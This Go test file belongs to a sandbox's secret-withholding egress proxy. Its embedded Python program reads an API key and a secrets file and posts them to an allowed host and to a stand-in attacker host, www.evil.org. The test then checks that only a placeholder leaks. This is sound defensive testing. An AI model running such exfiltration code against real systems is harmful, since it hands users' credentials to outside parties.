package realtest

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/glovebox-dev/glovebox/api"
	"github.com/glovebox-dev/glovebox/internal/cell/pool"
	"github.com/glovebox-dev/glovebox/internal/egress"
	"github.com/glovebox-dev/glovebox/internal/localca"
	"github.com/glovebox-dev/glovebox/internal/sandbox"
)

// web is an internet of two hosts, both at one server: api.example.com, which secrets go
// to, and www.evil.org. They answer with the headers and the body that they were sent.
type web struct {
	server *httptest.Server
	ca     *localca.Authority
	got    chan http.Header
}

func newWeb(t *testing.T) *web {
	t.Helper()
	ca, err := localca.ForHosts([]byte("the web"), []string{"example.com", "evil.org"}, func(string) bool { return true }, time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	w := &web{ca: ca, got: make(chan http.Header, 10)}
	w.server = httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.got <- r.Header
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(rw, "%s %v %s", r.Host, r.Header, body)
	}))
	w.server.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return ca.Certificate(h.ServerName) }}
	w.server.EnableHTTP2 = true
	w.server.StartTLS()
	t.Cleanup(w.server.Close)
	return w
}

// LookupNetIP implements egress.Resolver.
func (w *web) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("1.2.3.4")}, nil
}

// DialContext implements egress.Dialer.
func (w *web) DialContext(ctx context.Context, network, _ string) (net.Conn, error) {
	return new(net.Dialer).DialContext(ctx, network, w.server.Listener.Addr().String())
}

// out is the egress of a cell to the web.
func (w *web) out(policy api.Network, audit func(api.Connection), ways sandbox.Ways) (sandbox.Handler, error) {
	parsed, err := egress.ParsePolicy(policy)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(w.ca.PEM())
	return egress.NewProxy(parsed, egress.Options{
		Audit: audit, Resolver: w, Dialer: w, Roots: roots, Withheld: ways.Withheld,
		Own: func() ([]netip.Prefix, error) { return nil, nil }, Upstream: func(*http.Request) (*url.URL, error) { return nil, nil },
	}).Serve, nil
}

// A program uses a secret that it does not have, by what Python brings (attack S09).
func TestRealWithheld(t *testing.T) {
	w := newWeb(t)
	r := newRealAt(t, pool.Config{}, w.out, w.ca.PEM())
	task := &api.Task{
		Code: `
import os, urllib.error, urllib.request
key = os.environ["API_KEY"]
same = key == open("/run/secrets/a").read()
def ask(host):
    request = urllib.request.Request(f"https://{host}/v1/x", data=key.encode(), headers={"Authorization": "Bearer " + key})
    return urllib.request.urlopen(request, timeout=60).read().decode()
answer, elsewhere = ask("api.example.com"), ask("www.evil.org")
try:
    urllib.request.urlopen(urllib.request.Request("https://api.example.com/v1/x", method="DELETE"), timeout=60)
    refusal = "none"
except urllib.error.HTTPError as e:
    refusal = e.read().decode()
`,
		Network: api.Network{Public: true},
		Secrets: []api.SecretRef{
			{Name: "a", Env: "API_KEY", Hosts: []string{"api.example.com"}, Allow: []string{"POST /v1/*"}},
			{Name: "a", Hosts: []string{"api.example.com"}, Allow: []string{"POST /v1/*"}},
		},
		Signature: sig(t, "", "key:str same:bool answer:str elsewhere:str refusal:str"),
	}
	result, err := r.run(t, task, nil)
	if err != nil {
		t.Fatalf("%v %s", err, result.Stderr)
	}
	got := map[string]any{}
	for _, o := range result.Outputs {
		got[o.Name] = o.Value
	}
	key := got["key"].(string)
	if !strings.HasPrefix(key, "glovebox-") || got["same"] != true {
		t.Fatalf("the program has %v", got)
	}
	if sent := (<-w.got).Get("Authorization"); sent != "Bearer hunter2hunter2" {
		t.Errorf("the host got %q", sent)
	}
	if sent := (<-w.got).Get("Authorization"); sent != "Bearer "+key {
		t.Errorf("another host got %q", sent)
	}
	answer := got["answer"].(string)
	if strings.Contains(answer, "hunter2") || !strings.Contains(answer, "Bearer **************]") || !strings.HasSuffix(answer, key) {
		t.Errorf("the answer is %s", answer)
	}
	if refusal := got["refusal"].(string); !strings.Contains(refusal, "DELETE /v1/x is not allowed") || strings.Count(refusal, "POST /v1/*") != 1 {
		t.Errorf("the refusal is %q", refusal)
	}
	// A connection is on record when it has ended, which another one may have before.
	slices.SortFunc(result.Network, func(a, b api.Connection) int { return a.Time.Compare(b.Time) })
	if len(result.Network) != 3 || result.Network[0].Method != "POST" || result.Network[0].Secrets[0] != "a" || result.Network[2].Status != 403 {
		t.Errorf("the audit is %+v", result.Network)
	}
}
